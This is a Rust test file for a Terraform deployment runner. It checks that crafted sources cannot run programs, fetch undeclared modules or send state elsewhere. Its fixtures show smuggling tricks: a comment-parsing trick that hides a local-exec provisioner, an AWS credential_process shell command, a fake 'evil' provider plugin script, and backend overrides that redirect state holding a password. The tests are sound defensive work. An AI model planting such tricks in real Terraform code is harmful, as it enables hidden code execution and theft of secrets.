//! What a terraform source could hide from a plan, tried with the real terraform: no program runs, no state leaves,
//! nothing vanishes unsaid. The truth is a file that a program would have written, a listener that would have been
//! asked, and the state that is kept.

use std::net::TcpListener;

use remit_proto::convert::{Failure, Outcome, Success};
use remit_seal::document::{ComponentKind, ValueType};

use crate::bench::{Bench, read};
use crate::product::{Made, pack, part};

fn source(files: &[(&str, &str)]) -> Made {
    part("network", ComponentKind::Terraform, pack(files))
}

fn run(bench: &mut Bench, made: &Made, operation: &str) -> Outcome {
    let (release, digest) = bench.broker.publish(&[made]);
    let job = bench.broker.job(&release, digest, "network", operation);
    let job = bench.broker.offer(&job);
    bench.outcome(&job)
}

fn success(outcome: Outcome) -> Success {
    match outcome {
        Outcome::Succeeded(success) => success,
        other => panic!("{other:?}"),
    }
}

fn failure(outcome: Outcome) -> Failure {
    match outcome {
        Outcome::Failed(failure) => failure,
        other => panic!("{other:?}"),
    }
}

/// Whether anybody has called since it was bound.
fn was_called(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    listener.accept().is_ok()
}

#[test]
fn no_way_of_writing_it_runs_a_program_or_fetches_code_that_is_not_declared() {
    let mut bench = Bench::new();
    let ran = bench.site("ran");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let command = format!("touch {}", ran.display());
    let comment = format!(
        "locals {{\n  a = \"${{1 /* \" */}}\"\n}}\nresource terraform_data x {{\n  provisioner local-exec {{\n    command = \"{command}\"\n  }}\n}}\n"
    );
    let twice = format!(
        r#"{{"resource": {{"terraform_data": {{"x": {{"provisioner": {{"local-exec": {{"command": "{command}"}}}}}}}}}}, "resource": {{"terraform_data": {{"y": {{}}}}}}}}"#
    );
    let list = format!(r#"[{{"module": {{"m": {{"source": "http://{addr}/mod.tar.gz"}}}}}}]"#);
    let state = format!(
        "data \"terraform_remote_state\" \"x\" {{\n  backend = \"http\"\n  config = {{\n    address = \"http://{addr}/\"\n  }}\n}}\n"
    );
    let aws = "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = {\n    bucket = \"b\"\n    key = \"k\"\n    region = \"eu-central-1\"\n    profile = \"p\"\n    shared_config_files = [\"${path.module}/aws.cfg\"]\n  }\n}\n";
    let cfg = format!("[profile p]\ncredential_process = sh -c \"{command}\"\n");
    let plugin = "terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_amd64/terraform-provider-evil_v1.0.0";
    let evil = "terraform {\n  required_providers {\n    evil = { source = \"evil/evil\" }\n  }\n}\nprovider \"evil\" {}\n";
    let shell = format!("#!/bin/sh\n{command}\n");
    let test = format!("run \"r\" {{\n  module {{\n    source = \"http://{addr}/mod.tar.gz\"\n  }}\n}}\n");
    let cases: [(&str, Vec<(&str, &str)>); 7] = [
        ("policy.undeclared", vec![("main.tf", &comment)]),
        ("source.syntax", vec![("main.tf.json", &twice)]),
        ("source.syntax", vec![("main.tf.json", &list)]),
        ("policy.undeclared", vec![("main.tf", &state)]),
        ("policy.undeclared", vec![("main.tf", aws), ("aws.cfg", &cfg)]),
        ("source.file", vec![("main.tf", evil), (plugin, &shell)]),
        ("policy.undeclared", vec![("main.tf", ""), ("tests/a.tftest.hcl", &test)]),
    ];
    let _runner = bench.runner();
    for (code, files) in &cases {
        let failure = failure(run(&mut bench, &source(files), "deploy"));
        assert_eq!(failure.code, *code, "{failure:?}");
        assert!(!ran.exists(), "a program ran: {files:?}");
    }
    assert!(!was_called(&listener), "somebody was asked");
}

#[test]
fn the_state_goes_nowhere_else_whatever_a_source_says() {
    let mut bench = Bench::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let thing = "resource \"terraform_data\" \"secret\" {\n  input = \"master-password\"\n}\n";
    let away = format!("terraform {{\n  backend \"http\" {{\n    address = \"http://{addr}/x\"\n  }}\n}}\n");
    let json = format!(r#"{{"terraform": {{"backend": {{"http": {{"address": "http://{addr}/x"}}}}}}}}"#);
    let settings = format!("credentials \"x\" {{}}\n# {addr}\n");
    let local = "terraform {\n  backend \"local\" {}\n}\n";
    let _runner = bench.runner();
    for (code, name, text) in [
        ("source.override", "zz_override.tf", away.as_str()),
        ("source.override", "remit_override.tf.json", &json),
        ("source.override", "zz_override.tf", local),
        ("source.backend", "b.tf", &away),
        ("source.backend", "b.tf", local),
        ("source.backend", "b.tf.json", &json),
        ("source.file", ".terraformrc", &settings),
    ] {
        let failure = failure(run(&mut bench, &source(&[("main.tf", thing), (name, text)]), "deploy"));
        assert_eq!(failure.code, code, "{name}: {failure:?}");
    }
    assert!(!was_called(&listener), "the state left");
    assert!(!read(&bench.data.join("terraform/network.tfstate")).contains("master-password"));
    // Without them it is deployed, and the runner has the state.
    success(run(&mut bench, &source(&[("main.tf", thing)]), "deploy"));
    assert!(read(&bench.data.join("terraform/network.tfstate")).contains("master-password"));
}

#[test]
fn a_module_beside_the_component_is_named_before_terraform_is_asked() {
    let mut bench = Bench::new();
    let _runner = bench.runner();
    let made = source(&[("main.tf", "\nmodule \"vpc\" {\n  source = \"../modules/vpc\"\n}\n")]);
    let failure = failure(run(&mut bench, &made, "deploy"));
    assert_eq!(failure.code, "source.module_outside");
    assert!(failure.message.contains("main.tf:2: the module `../modules/vpc`"), "{failure:?}");
    let made = source(&[
        ("main.tf", "module \"vpc\" {\n  source = \"./modules/vpc\"\n}\n"),
        ("modules/vpc/main.tf", "resource \"terraform_data\" \"x\" {}\n"),
    ]);
    assert_eq!(success(run(&mut bench, &made, "deploy")).changes.create, 1);
}

#[test]
fn what_is_taken_over_and_what_is_forgotten_is_said_also_when_all_is_removed() {
    let mut bench = Bench::new();
    let _runner = bench.runner();
    success(run(&mut bench, &source(&[("main.tf", "resource \"terraform_data\" \"old\" {}\n")]), "deploy"));
    let made = source(&[(
        "main.tf",
        "removed {\n  from = terraform_data.old\n  lifecycle {\n    destroy = false\n  }\n}\nimport {\n  to = terraform_data.taken\n  id = \"11111111-2222-3333-4444-555555555555\"\n}\nresource \"terraform_data\" \"taken\" {}\n",
    )]);
    let changed = success(run(&mut bench, &made, "deploy"));
    assert_eq!((changed.changes.import, changed.changes.forget), (1, 1), "{changed:?}");
    assert_eq!(changed.summary, "1 taken over, 1 forgotten");
    assert!(read(&bench.data.join("terraform/network.tfstate")).contains("11111111-2222"));
    let removed = success(run(&mut bench, &made, "destroy"));
    assert!(removed.swept.is_empty(), "nobody looked for what was forgotten: {removed:?}");
    assert!(removed.summary.contains("terraform_data.old"), "{removed:?}");
}

#[test]
fn what_is_moved_is_said_and_leaves_nothing_behind() {
    let mut bench = Bench::new();
    let _runner = bench.runner();
    success(run(&mut bench, &source(&[("main.tf", "resource \"terraform_data\" \"a\" {}\n")]), "deploy"));
    let made = source(&[(
        "main.tf",
        "moved {\n  from = terraform_data.a\n  to   = terraform_data.b\n}\nresource \"terraform_data\" \"b\" {}\n",
    )]);
    assert_eq!(success(run(&mut bench, &made, "deploy")).summary, "1 moved");
    assert_eq!(success(run(&mut bench, &made, "destroy")).swept, "terraform's state lists nothing");
}

#[test]
fn an_output_alone_is_no_drift_and_is_said_to_be_that() {
    let mut bench = Bench::new();
    let _runner = bench.runner();
    let made = source(&[(
        "main.tf",
        "resource \"terraform_data\" \"x\" {}\noutput \"stamp\" {\n  value = timestamp()\n}\n",
    )]);
    let made = made.output("stamp", ValueType::String, false);
    success(run(&mut bench, &made, "deploy"));
    let looked = success(run(&mut bench, &made, "drift"));
    assert!(!looked.drifted, "{looked:?}");
    assert!(looked.summary.contains("output stamp"), "{looked:?}");
    assert_eq!(success(run(&mut bench, &made, "deploy")).summary, "1 changed as an output only");
}

#[test]
fn a_destroy_without_a_state_does_not_say_that_nothing_is_left() {
    let mut bench = Bench::new();
    let runner = bench.runner();
    let made = source(&[("main.tf", "resource \"terraform_data\" \"x\" {}\n")]);
    success(run(&mut bench, &made, "deploy"));
    runner.kill();
    // Lost with all that knew of it; that a deploy succeeded is still known.
    std::fs::remove_dir_all(bench.data.join("state/network")).unwrap();
    for entry in std::fs::read_dir(bench.data.join("terraform")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            std::fs::remove_file(path).unwrap();
        }
    }
    let _runner = bench.runner();
    let failure = failure(run(&mut bench, &made, "destroy"));
    assert_eq!(failure.code, "executor.state_missing", "{failure:?}");
}
